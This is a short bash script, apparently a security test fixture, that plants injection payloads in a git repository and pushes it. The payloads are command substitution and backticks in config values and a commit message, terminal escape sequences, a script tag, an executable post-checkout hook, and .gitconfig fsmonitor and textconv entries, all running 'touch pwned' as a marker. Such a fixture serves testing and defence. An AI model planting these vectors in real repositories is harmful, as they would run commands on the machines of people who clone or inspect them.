#!/usr/bin/env bash
set -eu
cd "$REPO"
git config user.name "$(printf '\033[2J$(touch pwned)')"
sed -i 's/^title = .*/title = "$(touch pwned) `touch pwned` <script>alert(1)<\/script>"/' "$OTHER_FILE"
mkdir hooks && printf '#!/bin/sh\ntouch pwned\n' > hooks/post-checkout && chmod +x hooks/post-checkout
printf '[core]\n\thooksPath = hooks\n\tfsmonitor = touch pwned\n' > .gitconfig
printf '[diff "evil"]\n\ttextconv = touch pwned\n' >> .gitconfig
git add -A && git commit -q -m "$(printf '\033]0;pwned\007 $(touch pwned)')"
git push -q origin main
